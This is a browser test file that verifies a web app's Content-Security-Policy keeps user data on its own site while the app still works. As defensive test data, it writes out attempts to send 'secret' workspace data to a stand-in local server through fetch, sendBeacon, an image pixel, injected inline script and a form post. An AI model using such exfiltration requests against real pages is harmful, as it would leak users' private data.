// "Everything you type stays on this device", enforced by the browser (issue 12): the page's
// Content-Security-Policy lets it reach only its own site. A request to another origin is refused
// before it leaves the page (the other server never sees it), inline script does not run, and the
// app still starts, draws and works under the policy.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { launch, openApp, screenshot } from './harness.mjs';
import { click, findItem, testSiteDir, settle } from './ui.mjs';
import { serveSite } from '../../scripts/serve-site.mjs';

test('the page may reach only its own site, and the app works under that policy', async () => {
  // Another origin that would gladly receive the workspace.
  const received = [];
  const elsewhere = http.createServer((req, res) => { received.push(req.url); res.setHeader('Access-Control-Allow-Origin', '*'); res.end('ok'); });
  await new Promise((r) => elsewhere.listen(0, '127.0.0.1', r));
  const other = `http://127.0.0.1:${elsewhere.address().port}`;
  const site = await serveSite(testSiteDir, 0, '127.0.0.1');
  const url = `http://127.0.0.1:${site.address().port}/`;
  const { context } = await launch();
  try {
    const { page, problems } = await openApp(context, url);
    const policy = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.content || '');
    for (const directive of ["default-src 'none'", "script-src 'self' 'wasm-unsafe-eval'", "connect-src 'self'",
      "style-src 'self'", "font-src 'self'", "worker-src 'self'", "form-action 'none'", "base-uri 'none'", "object-src 'none'"])
      assert.ok(policy.includes(directive), `the policy holds ${directive}: ${policy}`);
    assert.ok(!/unsafe-inline|unsafe-eval'|https?:|\*/.test(policy.replace("'wasm-unsafe-eval'", '')), 'no inline script, eval or other origin is allowed');

    // The app works: it started (WebAssembly compiled, the font loaded, storage opened), it draws,
    // a scheme opens and the matching worker (a same-site worker) can be created.
    await settle(page);
    await click(page, 'IKT mentoring');
    await findItem(page, 'Apply as a mentor or mentee');
    const workerStarts = await page.evaluate(() => new Promise((resolve) => {
      try {
        const w = new Worker('matching_worker.js');
        w.onerror = () => resolve(false);
        setTimeout(() => { w.terminate(); resolve(true); }, 500);
      } catch (e) { resolve(false); }
    }));
    assert.equal(workerStarts, true, 'the matching worker from the same site is allowed');
    assert.deepEqual(problems, [], 'the app raised no errors or policy violations of its own');
    await screenshot(page, 'policy-1-app-works');

    // Everything that could carry data elsewhere is refused before it leaves.
    const outcome = await page.evaluate(async (target) => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      const result = {};
      result.fetch = await fetch(`${target}/fetch?workspace=secret`, { method: 'POST', body: 'secret', mode: 'no-cors' })
        .then(() => 'sent', (e) => 'refused: ' + e.name);
      result.beacon = (() => { try { return navigator.sendBeacon(`${target}/beacon`, 'secret') ? 'queued' : 'refused'; } catch (e) { return 'refused'; } })();
      await new Promise((resolve) => {
        const img = new Image();
        img.onload = () => { result.image = 'loaded'; resolve(); };
        img.onerror = () => { result.image = 'refused'; resolve(); };
        img.src = `${target}/pixel.png?secret`;
      });
      const script = document.createElement('script');
      script.textContent = 'window.__inlineScriptRan = true;';
      document.body.appendChild(script);
      result.inline = window.__inlineScriptRan === true ? 'ran' : 'refused';
      const form = document.createElement('form');
      form.method = 'POST';
      form.action = `${target}/form`;
      document.body.appendChild(form);
      try { form.submit(); } catch (e) { /* refused */ }
      await new Promise((r) => setTimeout(r, 800));
      result.violations = violations;
      return result;
    }, other);
    assert.match(outcome.fetch, /^refused/, 'fetch to another origin is refused');
    assert.equal(outcome.image, 'refused', 'an image from another origin is refused');
    assert.equal(outcome.inline, 'refused', 'inline script does not run');
    for (const d of ['connect-src', 'img-src', 'script-src-elem', 'form-action'])
      assert.ok(outcome.violations.some((v) => v.startsWith(d.split('-elem')[0])), `a ${d} violation was reported: ${outcome.violations}`);
    await page.waitForTimeout(300);
    assert.deepEqual(received, [], 'the other origin received nothing at all');
    // The page is still the app, not navigated away by the form.
    assert.equal(new URL(page.url()).origin, new URL(url).origin);
    await findItem(page, 'Apply as a mentor or mentee');
  } finally {
    await context.close();
    await new Promise((r) => site.close(r));
    await new Promise((r) => elsewhere.close(r));
  }
});
